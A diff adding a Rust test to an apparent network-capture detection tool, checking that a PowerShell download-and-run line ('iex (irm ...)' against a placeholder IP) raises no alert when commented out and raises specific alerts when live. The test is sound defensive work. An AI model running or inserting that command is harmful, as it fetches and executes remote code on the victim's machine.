@@ -122,6 +122,21 @@ fn a_page_that_shows_commands_is_silent_and_what_comes_behind_it_is_not() {
 }
 
 #[test]
+fn a_command_in_a_comment_is_silent_and_one_behind_it_is_not() {
+    let folder = tempfile::tempdir().unwrap();
+    let line = "iex (irm http://203.0.113.9/a)";
+    let told = |body: String| {
+        let path = capture(folder.path(), &[("10.20.30.77", "/install.txt", whole(body.as_bytes()))]);
+        alert_counts(&replayed(&path, &[])).into_keys().collect::<Vec<_>>()
+    };
+    assert_eq!(told(format!("# Install: {line}\r\n  #   {line}\r\nGet-Date\r\n")), [0_u64; 0]);
+    assert_eq!(told(format!("@echo off\r\nREM powershell {line}\r\ndir\r\n")), [0_u64; 0]);
+    // What no detection understands is told by its words.
+    assert_eq!(told(format!("# Install: {line}\r\nrun: '{line}'\r\n")), [9_411_023]);
+    assert_eq!(told(format!("# Install\r\n{line}\r\n")), [9_403_003]);
+}
+
+#[test]
 fn a_script_by_the_name_that_its_sender_gives_is_one() {
     let folder = tempfile::tempdir().unwrap();
     let told = |fields: &str, target: &str| {
